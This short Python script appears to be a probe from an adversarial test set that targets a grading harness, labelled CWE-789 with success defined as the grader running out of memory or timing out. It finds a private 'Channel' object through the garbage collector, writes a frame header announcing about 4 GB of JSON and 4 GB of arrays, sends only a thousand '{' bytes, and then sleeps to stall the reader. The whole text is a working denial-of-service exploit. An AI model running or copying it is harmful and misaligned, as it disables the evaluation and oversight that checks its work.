"""Announces a frame of four gigabytes of JSON and as much of arrays, sends little of it, and waits."""

SOURCE = "CWE-789"
SUCCESS = "a grader that runs out of memory, or a run that takes longer than allowed"
PROOF = "stopped"

# %%
import gc
import json
import struct
import time

channel = next(thing for thing in gc.get_objects() if type(thing).__name__ == "Channel")


def say(body, arrays=b"", pause=0.0):
    text = body if isinstance(body, bytes) else json.dumps(body).encode()
    channel._writer.write(struct.pack("<II", len(text), len(arrays)) + text + arrays)
    channel._writer.flush()
    time.sleep(pause)


channel._writer.write(struct.pack("<II", 2**32 - 1, 2**32 - 1) + b"{" * 1000)
channel._writer.flush()
time.sleep(60)
